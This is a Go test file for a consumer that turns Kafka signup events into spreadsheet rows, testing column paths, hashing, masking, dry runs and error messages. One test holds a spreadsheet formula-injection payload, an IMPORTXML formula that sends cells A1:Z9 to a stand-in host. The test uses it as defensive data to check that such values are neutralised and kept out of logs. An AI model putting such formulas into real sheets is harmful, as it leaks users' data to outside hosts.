package consumer_test

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kgo"

	"signup-sheet/consumer"
)

// askedAges counts who asks, and always guesses the same.
type askedAges struct{ asked chan string }

func (a askedAges) Age(_ context.Context, name, _ string, _ func(int)) (int, string) {
	a.asked <- name
	return 34, "miss"
}

func TestColumnsComeFromSignupAgeAndRecord(t *testing.T) {
	s := set(t, 1)
	s.Produce(t, s.topic, &kgo.Record{
		Key: []byte("user/1"), Timestamp: time.UnixMilli(1795252530123),
		Headers: []kgo.RecordHeader{
			{Key: "x.source", Value: []byte("first")}, {Key: "x.source", Value: []byte("a & b")}, {Key: "binary", Value: []byte{0xff}}, {Key: "empty", Value: []byte{}}, {Key: "null"},
		},
		Value: []byte(`{"id":"one","email":" Ann@Example.com ","name":"Ann Smith","metadata":{"campaign":{"id":"c-7","n":1.50}},"utm":{"medium":"cpc"},"secret":"not sent"}`),
	})
	ages := askedAges{make(chan string, 1)}
	m := s.join(t, func(c *consumer.Config) {
		c.Ages, c.HashKey = ages, []byte("0123456789abcdef")
		c.Columns = []string{
			"event_id", "Sign-up date=record.timestamp|date(02.01.2006 15:04, Europe/Berlin)", "email|lower", "who=signup.email|lower|hash", "name|mask", "age", "age_guess", "age_status",
			"plan=signup.plan", "campaign=signup.metadata.campaign.id", "all=signup.metadata|json", "medium=signup.utm.medium", "signup.utm.nothing|default(none)",
			"record.topic", "record.partition", "record.offset", "record.timestamp", "record.key", "x=record.headers.x.source",
			"record.headers.binary|default(?)", "record.headers.empty", "record.headers.null", "record.headers.missing", "source='web'", "version=2",
		}
	})
	s.delivered(t, 1)
	s.committed(t, 1)
	m.leave(t)
	want := `{"event_id":"one","Sign-up date":"21.11.2026 10:15","email":"ann@example.com","who":"9f70eb4f1d9f0194d58bc08c41ce2b3b2e4e580a424a246ce2484484122343df","name":"A***","age":34,"age_guess":34,"age_status":"miss",` +
		`"plan":"free","campaign":"c-7","all":"{\"campaign\":{\"id\":\"c-7\",\"n\":1.50}}","medium":"cpc","nothing":"none",` +
		`"topic":"` + s.topic + `","partition":0,"offset":0,"timestamp":"2026-11-21T09:15:30.123Z","key":"user/1","x":"a & b",` +
		`"binary":"?","empty":"","null":null,"missing":null,"source":"web","version":2}`
	if got := string(s.sheet.Accepted()[0].Body); got != want {
		t.Errorf("row:\n%s\nwant:\n%s", got, want)
	}
	if n := m.metric(t, "values_unfit_total", "binary"); n != 1 || m.metric(t, "values_unfit_total") != 1 {
		t.Errorf("%v values of the column are counted as unfit", n)
	}
}

// Nobody's name leaves the house for a column that is not there.
func TestNobodyIsAskedForAgesThatNoColumnHas(t *testing.T) {
	s := set(t, 1)
	s.publish(t, "one", 1, 1)
	ages := askedAges{make(chan string, 1)}
	m := s.join(t, func(c *consumer.Config) { c.Ages, c.Columns = ages, []string{"event_id", "plan"} })
	s.delivered(t, 1)
	m.leave(t)
	if got := string(s.sheet.Accepted()[0].Body); got != `{"event_id":"one-0","plan":"pro"}` || len(ages.asked) > 0 {
		t.Errorf("row %s, and %d names were asked for", got, len(ages.asked))
	}
}

func TestADryRunShowsRowsWithTheColumnsInEffect(t *testing.T) {
	s := set(t, 1)
	r := consumer.Range{From: time.Now().Add(-time.Hour).Truncate(time.Second), To: time.Now().Add(time.Hour)}
	s.Produce(t, s.topic, &kgo.Record{Key: []byte("k"), Value: []byte(`{"id":"a","email":"Ann@b.example","name":"=1"}`)})
	p, err := s.newMember(t, func(c *consumer.Config) {
		c.Range, c.Group = &r, s.groupOf(r)
		c.Columns = []string{"email|lower", "name", "age", "record.key", "record.offset"}
	}).Preview(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if want := `{"email":"ann@b.example","name":"'=1","age":null,"key":"k","offset":0}`; len(p.Rows) != 1 || string(p.Rows[0]) != want {
		t.Errorf("%s, want %s", p.Rows, want)
	}
}

// Hazard 23.
func TestAFormulaInANameIsNeutralisedAndCounted(t *testing.T) {
	const formula = `=IMPORTXML(CONCAT(\"https://x.example/?\",A1:Z9),\"//a\")`
	event := func(id string) *kgo.Record {
		return &kgo.Record{Value: fmt.Appendf(nil, `{"id":%q,"email":"=1+1@b.example","name":"%s","plan":"pro","metadata":{"n":-1,"x":["%s"]}}`, id, formula, formula)}
	}
	for name, c := range map[string]struct {
		tweak func(*consumer.Config)
		want  string
		names float64
	}{
		"by default": {nil, `"email":"'=1+1@b.example","name":"'` + formula + `","plan":"pro","source":"website","utm_campaign":null,"age_guess":null,"metadata":{"n":-1,"x":["'` + formula + `"]}}`, 1},
		"not for one column": {
			func(c *consumer.Config) { c.Columns = []string{"event_id", "email|raw", "name"} },
			`{"event_id":"f","email":"=1+1@b.example","name":"'` + formula + `"}`, 1,
		},
		"not at all": {
			func(c *consumer.Config) { c.RawCells = true },
			`"email":"=1+1@b.example","name":"` + formula + `","plan":"pro","source":"website","utm_campaign":null,"age_guess":null,"metadata":{"n":-1,"x":["` + formula + `"]}}`, 0,
		},
	} {
		t.Run(name, func(t *testing.T) {
			s := set(t, 1)
			s.Produce(t, s.topic, event("f"))
			tweaks := []func(*consumer.Config){}
			if c.tweak != nil {
				tweaks = append(tweaks, c.tweak)
			}
			m := s.join(t, tweaks...)
			s.delivered(t, 1)
			s.committed(t, 1)
			m.leave(t)
			if got := string(s.sheet.Accepted()[0].Body); !strings.HasSuffix(got, c.want) {
				t.Errorf("row:\n%s\nwant at its end:\n%s", got, c.want)
			}
			if got := m.metric(t, "values_neutralised_total", "name"); got != c.names {
				t.Errorf("%v names are counted, want %v", got, c.names)
			}
			if strings.Contains(m.log.String(), "IMPORTXML") {
				t.Error("the name is in the log")
			}
		})
	}
}

func TestPathsThatDoNotExistAreNamedWithThoseThatDo(t *testing.T) {
	_, err := consumer.ParseColumns([]string{"mail", "x=age.years", "y=record.ofset", "z=record", "h=record.headers", "a=age_guess.x", "k=record.key.x", "m=Signup.plan", "email", "e=email.x", "s=signup"})
	want := []string{
		`column 1 ("mail"), at character 1: there is no mail: paths begin with signup, age, age_status or record, and a text is put in quotes`,
		`column 2 ("x"), at character 3: there is no age.years: age has nothing below it`,
		`column 3 ("y"), at character 3: there is no record.ofset: want record.topic, record.partition, record.offset, record.timestamp, record.key or record.headers.<name>`,
		`column 4 ("z"), at character 3: there is no record: want record.topic, record.partition, record.offset, record.timestamp, record.key or record.headers.<name>`,
		`column 5 ("h"), at character 3: there is no record.headers: want record.topic, record.partition, record.offset, record.timestamp, record.key or record.headers.<name>`,
		`column 6 ("a"), at character 3: there is no age_guess.x: age_guess has nothing below it`,
		`column 7 ("k"), at character 3: there is no record.key.x: want record.topic, record.partition, record.offset, record.timestamp, record.key or record.headers.<name>`,
		`column 8 ("m"), at character 3: there is no Signup.plan: paths begin with signup, age, age_status or record, and a text is put in quotes`,
	}
	if err == nil || err.Error() != strings.Join(want, "\n") {
		t.Errorf("%v\nwant\n%s", err, strings.Join(want, "\n"))
	}
}
